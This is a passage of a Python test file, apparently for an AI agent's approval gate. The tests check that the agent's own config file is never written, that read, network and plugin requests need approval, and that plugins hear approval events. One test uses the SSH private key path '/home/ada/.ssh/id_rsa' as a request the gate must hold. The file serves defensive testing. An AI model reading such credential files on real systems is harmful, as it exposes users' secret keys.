        assert verdict.permit == Permit(content_digest(HOSTS, None, b"1"), SandboxOpening(folders=("/etc",)))

    def test_a_file_that_rules_hermes_is_never_written(self, db: SessionDB) -> None:
        assert not permit(gate(db, Person("once")), "/home/ada/.hermes/config.yaml", kind="write", after=b"x").allowed

    @pytest.mark.parametrize("kind", ["read", "network", "plugin", "anything"])
    def test_what_is_neither_command_nor_write_asks(self, db: SessionDB, kind: str) -> None:
        text = "/home/ada/.ssh/id_rsa"
        assert not permit(gate(db, None), text, kind=kind).allowed
        assert permit(gate(db, Person("once")), text, kind=kind).allowed


def test_plugins_hear_of_questions_and_answers(db: SessionDB, home: Path, tmp_path: Path) -> None:
    heard = tmp_path / "heard"
    code = f"""
    def note(name):
        def said(**facts):
            with open({str(heard)!r}, "a") as out:
                print(name, facts["command"], facts["surface"], facts.get("choice"), file=out)
        return said

    def register(ctx):
        for name in ("pre_approval_request", "post_approval_response"):
            ctx.register_hook(name, note(name))
    """
    with plugin_home(home) as plugged:
        plugged.add("ear", code)
        plugged.load("ear")
        permit(gate(db, Person("once")))
        permit(gate(db, Person()), "ls")
    assert heard.read_text().splitlines() == [
        f"pre_approval_request {RM} cli None",
        f"post_approval_response {RM} cli once",
    ]
